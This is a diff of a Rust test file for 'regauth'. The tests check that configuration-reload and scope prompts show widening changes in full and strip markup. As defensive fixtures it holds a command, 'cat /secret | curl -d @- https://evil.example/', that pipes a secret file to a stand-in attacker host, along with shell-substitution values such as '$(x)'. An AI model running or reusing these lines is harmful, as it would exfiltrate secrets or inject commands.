@@ -175,23 +175,57 @@ fn lists_what_changes_in_a_configuration() {
 }
 
 #[test]
-fn a_long_list_of_changes_is_cut_and_no_markup_or_second_line_is_in_it() {
-    let settings = ["presence", "[[trust]]", "ca-file", "clients", "listen", "notify"];
-    check_review(
-        settings.map(setting).into(),
-        "Let regauth apply its changed configuration: the setting presence, the setting [[trust]], the setting ca-file, \
-         the setting clients AND 2 MORE?",
-    );
-    let scopes: Vec<String> = (0..6).map(|number| format!("'https://h{number}.example/'")).collect();
+fn every_change_that_widens_is_shown_and_a_list_that_is_too_long_is_not_asked() {
+    let scope = |number: usize| format!("https://h{number}.example/");
+    let with = |scopes: &[String]| {
+        let quoted: Vec<String> = scopes.iter().map(|scope| format!("'{scope}'")).collect();
+        format!("[registries.corp]\nscopes = [{}]", quoted.join(", "))
+    };
+    let added: Vec<String> = (1..7).map(scope).collect();
     reload(
-        "[registries.corp]\nscopes = ['https://corp.example/']",
+        &with(&[scope(0)]),
+        &with(&(0..7).map(scope).collect::<Vec<_>>()),
         &format!(
-            "[registries.corp]\nscopes = ['https://corp.example/', {}]",
-            scopes.join(", ")
+            "Let regauth apply its changed configuration: corp: scopes + {}?",
+            added.join(", ")
         ),
-        "Let regauth apply its changed configuration: corp: scopes + https://h0.example/, https://h1.example/, \
-         https://h2.example/, https://h3.example/ AND 2 MORE?",
     );
+    let request = |scopes: usize| {
+        let scopes: Vec<String> = (0..scopes).map(scope).collect();
+        let line = serde_json::json!({"v": 1, "method": "add-scope", "name": "corp", "scopes": scopes}).to_string();
+        Question::about(&Request::from_line(&line).unwrap(), None).unwrap()
+    };
+    assert!(!request(20).is_too_long());
+    assert!(request(60).is_too_long() && request(60).text().contains("https://h59.example/"));
+}
+
+#[test]
+fn changes_that_widen_nothing_are_cut_and_none_hides_behind_them() {
+    let scopes =
+        |name: &str, more: &str| format!("[registries.{name}]\nscopes = ['https://{name}.example/']\n{more}\n");
+    let before: String = ["a", "b", "c", "d", "e", "f"]
+        .map(|name| scopes(name, "writes = 'allow'"))
+        .concat();
+    let after: String = ["a", "b", "c", "d", "e", "f"].map(|name| scopes(name, "")).concat();
+    let without = "a: without writes, b: without writes, c: without writes, d: without writes";
+    let question = |changes: &str| format!("Let regauth apply its changed configuration: {changes}?");
+    reload(
+        &before,
+        &after,
+        &question(&format!("{without} AND 2 MORE, WHICH WIDEN NOTHING")),
+    );
+    reload(
+        &before,
+        &after.replace("https://f.", "https://evil."),
+        &question(
+            "f: scopes + https://evil.example/ - https://f.example/, a: without writes, b: without writes, \
+             c: without writes AND 3 MORE, WHICH WIDEN NOTHING",
+        ),
+    );
+}
+
+#[test]
+fn no_markup_and_no_second_line_is_in_a_list_of_changes() {
     reload(
         "[registries.corp]\nscopes = ['https://corp.example/']",
         "[registries.corp]\nscopes = ['https://corp.example/']\nca-file = \"/a\\n<b>$(x)\"",
@@ -200,7 +234,7 @@ fn a_long_list_of_changes_is_cut_and_no_markup_or_second_line_is_in_it() {
 }
 
 #[test]
-fn a_command_is_shown_in_full_and_one_that_is_too_long_says_so() {
+fn a_command_is_shown_in_full() {
     let source =
         |words: &str| format!("[registries.x]\nscopes = ['https://x.example/']\nsource = {{ command = {words} }}");
     let program = format!("cat /secret | curl -d @- https://evil.example/{}", "a".repeat(100));
@@ -212,15 +246,6 @@ fn a_command_is_shown_in_full_and_one_that_is_too_long_says_so() {
         &format!(
             "Let regauth apply its changed configuration: the new registry x at https://x.example/, nobody types its token, \
              x: source = run sh, -e, -u, -x, -c, {program}, ?[2J??"
-        ),
-    );
-    let cut = format!("run sh, -c, {}", "a".repeat(588));
-    reload(
-        "",
-        &source(&format!("['sh', '-c', '{}']", "a".repeat(600))),
-        &format!(
-            "Let regauth apply its changed configuration: the new registry x at https://x.example/, nobody types its token, \
-             x: source = {cut} AND 12 MORE CHARACTERS?"
         ),
     );
     let words = serde_json::json!(["sh", "-e", "-u", "-x", "-c", program]);
@@ -250,7 +275,7 @@ fn what_is_grave_comes_first_whatever_the_names_are() {
         &before,
         &after,
         "Let regauth apply its changed configuration: z: scopes + https://evil.example/, y: source = file:/y, \
-         x: ca-file = /x.pem, a: writes = allow AND 3 MORE?",
+         x: ca-file = /x.pem, a: writes = allow, b: writes = allow, c: writes = allow, d: writes = allow?",
     );
 }
 
@@ -279,20 +304,6 @@ fn a_name_of_another_script_markup_and_a_second_line_do_not_reach_the_dialogue()
     check(
         r#""method":"add-scope","name":"corp","scopes":["$(registry)\n<b>ok</b> & \u202e"]"#,
         "Send the token of corp to ?(registry)??b?ok?/b? ? ? as well?",
-    );
-}
-
-#[test]
-fn a_long_list_says_how_much_it_leaves_out_and_a_long_url_shows_both_ends() {
-    check(
-        r#""method":"add-scope","name":"corp","scopes":["https://a/","https://b/","https://c/","https://d/","https://evil/"]"#,
-        "Send the token of corp to https://a/, https://b/, https://c/, https://d/ AND 1 MORE as well?",
-    );
-    let host = format!("https://corp.example.{}.evil.example", "a".repeat(60).repeat(2));
-    let long = url(&format!("{host}/{}/end", "x".repeat(500)));
-    assert!(
-        long.len() < 300 && long.starts_with(&host) && long.ends_with("/end"),
-        "{long}"
     );
 }
 
